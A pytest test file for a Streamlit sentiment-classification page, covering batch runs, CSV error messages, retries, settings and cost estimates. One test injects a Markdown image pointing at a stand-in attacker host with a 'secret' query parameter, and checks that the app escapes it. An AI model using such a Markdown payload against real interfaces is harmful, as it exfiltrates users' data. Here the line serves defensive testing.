"""AppTest of the Classify page in local mode against the session emulator."""

from __future__ import annotations

import json
import time

import pytest

PAGE = "pages/classify.py"
POSITIVE = ["I love this, it is wonderful", "Great value and friendly staff", "A delightful, happy surprise",
            "Brilliant work, thank you", "Superb and beautiful", "Really enjoyed it, excellent",
            "Fantastic support, very helpful", "Nice and comfortable", "Best day ever, so fun",
            "Lovely people, great food"]
NEGATIVE = ["I hate this, it is awful", "Terrible value and rude staff", "A horrible, sad mess",
            "Dreadful work, very disappointing", "Ugly and broken", "Really hated it, bad",
            "Useless support, no help at all", "Dirty and uncomfortable", "Worst day ever, so boring",
            "Nasty people, disgusting food"]


def labelled_csv() -> bytes:
    lines = ["text,label"]
    for pos, neg in zip(POSITIVE, NEGATIVE, strict=True):
        lines += [f'"{pos}",1', f'"{neg}",0']
    return ("\n".join(lines) + "\n").encode()


def open_page(app, tab: str = "Batch"):
    """Open the page on a tab: the page's tabs are tracked, and only the open one is drawn."""
    app.session_state["classify_tab"] = tab
    app.switch_page(PAGE).run()
    assert not app.exception, app.exception
    return app


def open_results_tab(app, tab: str):
    app.session_state["classify_results_tab"] = tab
    app.run()
    assert not app.exception, app.exception
    return app


def run_batch_and_wait(app, timeout: float = 60):
    app.button(key="classify_run").click().run()
    assert not app.exception, app.exception
    job = app.session_state["classify_job"]
    assert job.wait(timeout), "batch did not finish"
    app.run()  # the page after the batch ended
    assert not app.exception, app.exception
    return job


def metric(app, label: str) -> str:
    return next(m.value for m in app.metric if m.label == label)


def charts(app) -> list[dict]:
    return [json.loads(chart.proto.spec) for chart in app.get("vega_lite_chart")]


def chart_titles(app) -> list[str]:
    titles = []
    for spec in charts(app):
        title = spec.get("title")
        titles.append(title.get("text") if isinstance(title, dict) else title)
    return titles


def test_single_text_shows_label_confidence_and_scores_chart(app):
    open_page(app, "Single text")
    app.text_area(key="classify_text").set_value("What a wonderful, happy day!").run()
    app.button(key="classify_one").click().run()
    assert not app.exception, app.exception
    assert metric(app, "Label") == "POSITIVE"
    assert metric(app, "Confidence").endswith("%")
    assert metric(app, "Latency").endswith("ms") and metric(app, "Cache") == "–"
    assert "Scores by label" in chart_titles(app)


def test_labelled_batch_shows_accuracy_confusion_matrix_and_keeps_faulty_rows(app):
    open_page(app)
    app.file_uploader(key="classify_upload").set_value(("reviews.csv", labelled_csv(), "text/csv")).run()
    assert not app.exception, app.exception
    chosen = {s.label: s.value for s in app.selectbox}
    assert chosen["Text column"] == "text" and chosen["Expected-label column (optional)"] == "label"
    app.number_input(key="classify_fault_every").set_value(7).run()  # rows 7 and 14 fail (emulator demo)
    job = run_batch_and_wait(app)

    frame = job.frame()
    assert len(frame) == 20
    failed = frame[frame["status"] == "error"]
    assert failed.index.tolist() == [6, 13] and failed["error"].str.contains("500").all()

    accuracy = metric(app, "Accuracy")
    assert accuracy.endswith("%") and float(accuracy.rstrip("%")) >= 80  # the lexicon gets these right
    assert metric(app, "Scored rows") == "18"
    table = next(df.value for df in app.dataframe if "error" in df.value.columns)
    assert len(table) == 20 and table["error"].notna().sum() == 2  # the faulty rows are kept with their error
    open_results_tab(app, "Evaluation")
    assert "Confusion matrix" in chart_titles(app) and "Accuracy vs coverage" in chart_titles(app)
    mapping = {s.label.split("'")[1]: s.value for s in app.selectbox if s.key and s.key.startswith("classify_map_")}
    assert mapping == {"1": "POSITIVE", "0": "NEGATIVE"}
    assert any("not counted" in c.value for c in app.caption)

    app.button(key="classify_retry").click().run()  # the retry of an injected fault succeeds
    assert job.wait(30)
    app.run()
    assert (job.frame()["status"] == "ok").all()
    assert metric(app, "Scored rows") == "20"
    assert not [b for b in app.button if b.key == "classify_retry"]


def test_threshold_adds_abstain_column(app):
    open_page(app)
    app.file_uploader(key="classify_upload").set_value(("reviews.csv", labelled_csv(), "text/csv")).run()
    run_batch_and_wait(app)
    open_results_tab(app, "Evaluation")
    app.slider(key="classify_threshold").set_value(0.99).run()
    assert not app.exception, app.exception
    coverage = float(metric(app, "Coverage").rstrip("%"))
    assert coverage < 100
    heatmap = next(s for s in charts(app) if (s.get("title") or {}).get("text") == "Confusion matrix")
    assert "(abstain)" in json.dumps(heatmap)


def test_sample_button_runs_the_sample_file(app):
    open_page(app)
    app.button(key="classify_use_sample").click().run()
    assert any("40 rows read as utf-8" in c.value for c in app.caption)
    job = run_batch_and_wait(app)
    assert len(job.frame()) == 40
    assert metric(app, "Accuracy").endswith("%")


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"text,label\ngood,pos\nan unquoted, comma,neg\nfine,pos\n", "Row 3: has 3 field(s)"),
        (b"PK\x03\x04\x00\x00binary\x00stuff", "not text"),
        (b"\n\n", "empty"),
    ],
)
def test_bad_files_get_clear_messages_not_tracebacks(app, content, expected):
    open_page(app)
    app.file_uploader(key="classify_upload").set_value(("bad.csv", content, "text/csv")).run()
    assert not app.exception, app.exception
    shown = " ".join(e.value for e in [*app.warning, *app.error])
    assert expected in shown


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b'text,label\n"unclosed,pos\nfine,neg\n', ["unmatched double quote", "Row 2: has 1 field(s)"]),
        (b"text,label\na,b,c\nd,e,f\n", ["Row 2: has 3 field(s)", "Row 3: has 3 field(s)"]),
    ],
)
def test_file_with_no_readable_rows_says_why(app, content, expected):
    open_page(app)
    app.file_uploader(key="classify_upload").set_value(("broken.csv", content, "text/csv")).run()
    assert not app.exception, app.exception
    shown = " ".join(e.value for e in app.error)
    assert "No readable data rows" in shown and all(part in shown for part in expected), shown
    assert app.button(key="classify_run").disabled


def test_numeric_text_column_gets_a_warning(app):
    open_page(app)
    app.file_uploader(key="classify_upload").set_value(("scores.csv", b"id,score\n1,0.25\n2,0.75\n", "text/csv")).run()
    assert not app.exception, app.exception
    text_column = next(s.value for s in app.selectbox if s.label == "Text column")
    assert any(f"Column '{text_column}' looks numeric: is it the text?" in w.value for w in app.warning)
    app.file_uploader(key="classify_upload").set_value(("reviews.csv", labelled_csv(), "text/csv")).run()
    assert not [w for w in app.warning if "looks numeric" in w.value]  # a real text column: no warning


def test_pasted_lines_skip_empty_ones(app):
    open_page(app)
    app.radio(key="classify_source").set_value("Paste lines").run()
    app.text_area(key="classify_lines").set_value("lovely\n\n\nhorrible\n").run()
    assert any("2 empty text(s) skipped (rows 2, 3)" in i.value for i in app.info)
    job = run_batch_and_wait(app)
    assert job.frame()["text"].tolist() == ["lovely", "horrible"]
    assert not [m for m in app.metric if m.label == "Accuracy"]  # no labels: no evaluation


def test_five_thousand_rows_run_in_the_background_and_stop_keeps_finished_rows(app):
    lines = ["text,label"] + [f"row {i} is {'lovely' if i % 2 else 'awful'},{i % 2}" for i in range(5000)]
    open_page(app)
    app.file_uploader(key="classify_upload").set_value(("big.csv", "\n".join(lines).encode(), "text/csv")).run()
    started = time.perf_counter()
    app.button(key="classify_run").click().run()
    assert not app.exception, app.exception
    assert time.perf_counter() - started < 20  # the script run returns while the batch goes on
    job = app.session_state["classify_job"]
    assert job.running and app.get("progress")
    deadline = time.monotonic() + 30
    while job.progress().run_done < 50 and time.monotonic() < deadline:  # readiness, not a fixed sleep
        app.run()  # progress is redrawn on every run meanwhile
    app.button(key="classify_stop").click().run()
    assert job.wait(20)
    app.run()
    assert not app.exception, app.exception
    progress = job.progress()
    assert progress.stopped and 50 <= progress.ok < 5000 and progress.ok + progress.pending == 5000
    assert any(b.key == "classify_retry" for b in app.button)
    assert metric(app, "Scored rows") == f"{progress.ok:,}"


def test_reading_options_can_override_the_header_guess(app):
    open_page(app)
    app.file_uploader(key="classify_upload").set_value(("plain.tsv", b"so good\t1\nso bad\t0\n", "text/tab-separated-values")).run()
    app.radio(key="classify_header").set_value("no").run()
    assert not app.exception, app.exception
    assert any("2 rows read as utf-8, tab-separated, without a header row" in c.value for c in app.caption)
    assert [s.value for s in app.selectbox if s.label == "Text column"] == ["column 1"]
    job = run_batch_and_wait(app)
    assert job.frame()["expected"].tolist() == ["1", "0"]


# --- issue 13: consistent tables, broken uploads, settings kept; issue 11/14: failures, escaping, cost ------
def results_table(app):
    return next(df for df in app.dataframe if df.key == "classify_results" or "error" in df.value.columns)


def column_labels(element) -> dict[str, str]:
    config = json.loads(element.proto.columns)
    return {name: c.get("label", name) for name, c in config.items()}


def test_tables_show_the_missing_glyph_and_the_files_row_numbers(app):
    open_page(app)
    app.file_uploader(key="classify_upload").set_value(("reviews.csv", labelled_csv(), "text/csv")).run()
    assert any("the header is row 1, so the first text is row 2" in c.value for c in app.caption)
    app.number_input(key="classify_fault_every").set_value(7).run()
    run_batch_and_wait(app)
    table = results_table(app)
    assert table.proto.placeholder == "–"  # failed rows' predicted/score/cache: "–", never "None"
    assert table.value["row"].tolist()[:3] == [2, 3, 4]  # the file's own numbering, the header is row 1
    labels = column_labels(table)
    assert labels["row"] == "file row" and labels["expected"] == "your label"
    assert labels["expected_as"] == "as model label"
    help_text = json.loads(table.proto.columns)["row"]["help"]
    assert "the header is row 1" in help_text
    open_results_tab(app, "Evaluation")
    per_label = next(df for df in app.dataframe if "precision" in df.value.columns)
    assert per_label.proto.placeholder == "–"


def test_rows_of_a_file_without_header_start_at_one(app):
    open_page(app)
    app.file_uploader(key="classify_upload").set_value(("plain.tsv", b"so good\t1\nso bad\t0\n", "text/tab-separated-values")).run()
    app.radio(key="classify_header").set_value("no").run()
    assert any("the first row is row 1" in c.value for c in app.caption)
    run_batch_and_wait(app)
    table = results_table(app)
    assert table.value["row"].tolist() == [1, 2]
    assert "the first row is row 1" in json.loads(table.proto.columns)["row"]["help"]


def test_confident_mistakes_show_the_users_label_and_the_mapped_one_like_the_main_table(app):
    lines = ["text,label", '"I love this, it is wonderful",0', '"I hate this, it is awful",1', '"Lovely",1']
    open_page(app)
    app.file_uploader(key="classify_upload").set_value(("wrong.csv", ("\n".join(lines) + "\n").encode(),
                                                        "text/csv")).run()
    run_batch_and_wait(app)
    main = results_table(app)
    open_results_tab(app, "Evaluation")
    mistakes = next(df for df in app.dataframe if df.key == "classify_mistakes" or (
        "expected_as" in df.value.columns and len(df.value) == 2))
    assert {"expected", "expected_as", "predicted"} <= set(mistakes.value.columns)
    first = mistakes.value.iloc[0]
    assert first["expected"] in {"0", "1"} and first["expected_as"] in {"POSITIVE", "NEGATIVE"}
    assert first["expected_as"] != first["predicted"]
    same = main.value.set_index("row").loc[first["row"]]
    assert (same["expected"], same["expected_as"]) == (first["expected"], first["expected_as"])
    assert column_labels(mistakes)["expected"] == column_labels(main)["expected"] == "your label"


def test_a_broken_upload_clears_the_previous_results_and_names_the_file(app):
    open_page(app)
    app.file_uploader(key="classify_upload").set_value(("reviews.csv", labelled_csv(), "text/csv")).run()
    run_batch_and_wait(app)
    assert metric(app, "Accuracy")
    app.file_uploader(key="classify_upload").set_value(("broken_export.csv", b"PK\x03\x04\x00\x00binary\x00stuff",
                                                        "text/csv")).run()
    assert not app.exception, app.exception
    errors = " ".join(e.value for e in app.error)
    assert "broken\\_export\\.csv" in errors and "not text" in errors
    assert not [m for m in app.metric if m.label == "Accuracy"]
    assert "classify_job" not in app.session_state
    assert not [b for b in app.button if b.key == "classify_retry"]


def test_failed_rows_are_summarised_by_the_shared_diagnosis(app):
    from cfai.failures import summarize_failures
    from cfai.safe_markdown import escape_markdown

    open_page(app)
    app.file_uploader(key="classify_upload").set_value(("reviews.csv", labelled_csv(), "text/csv")).run()
    app.number_input(key="classify_fault_every").set_value(7).run()
    job = run_batch_and_wait(app)
    summary = summarize_failures(job.frame())
    notice = next(w.value for w in app.warning if "failed" in w.value)
    assert notice.startswith(escape_markdown(summary.headline()))
    assert summary.hint and escape_markdown(summary.hint) in notice


def test_server_error_text_is_shown_as_text_in_the_single_text_panel(app, client):
    from cfai.classify import classify_text

    # A real error answer (unknown model), its message replaced by one that holds Markdown (an image).
    open_page(app, "Single text")
    answer = classify_text(client, "@cf/nobody/no-such-model", "hi")
    assert answer.error
    answer.error = "upstream said ![x](http://attacker.invalid/leak.png?q=secret) **now**"
    app.session_state["classify_single"] = answer
    app.run()
    shown = " ".join(e.value for e in app.error)
    assert "!\\[x\\]" in shown and "![x](" not in shown and "\\*\\*now\\*\\*" in shown


def test_model_description_from_the_catalogue_is_escaped(app):
    open_page(app, "Single text")
    captions = " ".join(c.value for c in app.caption)
    assert "Sentiment classifier \\(POSITIVE / NEGATIVE\\)" in captions


def test_settings_survive_a_visit_to_another_page(app):
    open_page(app)
    app.radio(key="classify_route").set_value("gateway").run()
    app.file_uploader(key="classify_upload").set_value(("reviews.csv", labelled_csv(), "text/csv")).run()
    text_key = next(s.key for s in app.selectbox if s.label == "Text column")
    label_key = next(s.key for s in app.selectbox if s.label.startswith("Expected-label column"))
    app.slider(key="classify_concurrency").set_value(3).run()
    run_batch_and_wait(app)
    map_key = next(s.key for s in app.selectbox if s.key and s.key.startswith("classify_map_") and "'1'" in s.label)
    app.selectbox(key=map_key).set_value("NEGATIVE").run()
    app.slider(key="classify_threshold").set_value(0.4).run()
    app.selectbox(key=label_key).set_value("(no expected labels)").run()
    app.selectbox(key=label_key).set_value("label").run()
    before = {k: app.session_state[k] for k in ("classify_route", "classify_concurrency", "classify_threshold",
                                                map_key, text_key, label_key)}
    assert before["classify_threshold"] == 0.4 and before[map_key] == "NEGATIVE"

    app.switch_page("pages/playground.py").run()
    assert not app.exception, app.exception
    app.switch_page(PAGE).run()
    assert not app.exception, app.exception
    assert app.radio(key="classify_route").value == "gateway"
    assert app.slider(key="classify_concurrency").value == 3
    assert app.selectbox(key=text_key).value == "text" and app.selectbox(key=label_key).value == "label"
    assert app.selectbox(key=map_key).value == "NEGATIVE"
    assert app.slider(key="classify_threshold").value == 0.4
    assert any("reviews\\.csv" in c.value for c in app.caption), \
        [c.value for c in app.caption if "row" in c.value or "file" in c.value]
    assert app.button(key="classify_run").label == "Classify 20 rows"
    assert not app.warning or not [w for w in app.warning if "Session State" in w.value]


def test_batch_cost_uses_the_catalogue_price_or_a_custom_one(app):
    from cfai.catalog import DEFAULT_CLASSIFICATION_MODEL
    from cfai.cost import estimate_tokens
    from cfai.format import format_usd

    open_page(app)
    app.file_uploader(key="classify_upload").set_value(("reviews.csv", labelled_csv(), "text/csv")).run()
    job = run_batch_and_wait(app)
    assert job.settings.model == DEFAULT_CLASSIFICATION_MODEL
    tokens = sum(estimate_tokens(t) for t in job.frame()["text"])
    listed = 0.026  # the emulator catalogue's price for distilbert-sst-2-int8, $ per M input tokens
    line = " ".join(m.value for m in app.markdown if "per 1,000 texts" in m.value)
    expected_total, expected_per_1000 = tokens * listed / 1e6, tokens * listed / 1e6 / 20 * 1000
    assert f"about {format_usd(expected_total)}".replace("$", r"\$") in line
    assert f"about {format_usd(expected_per_1000)} per 1,000 texts".replace("$", r"\$") in line

    on_key = f"classify_price_on_{DEFAULT_CLASSIFICATION_MODEL}"
    app.toggle(key=on_key).set_value(True).run()
    app.number_input(key=f"classify_price_input_{DEFAULT_CLASSIFICATION_MODEL}").set_value(1000.0).run()
    assert not app.exception, app.exception
    line = " ".join(m.value for m in app.markdown if "per 1,000 texts" in m.value)
    assert f"about {format_usd(tokens * 1000 / 1e6)}".replace("$", r"\$") in line
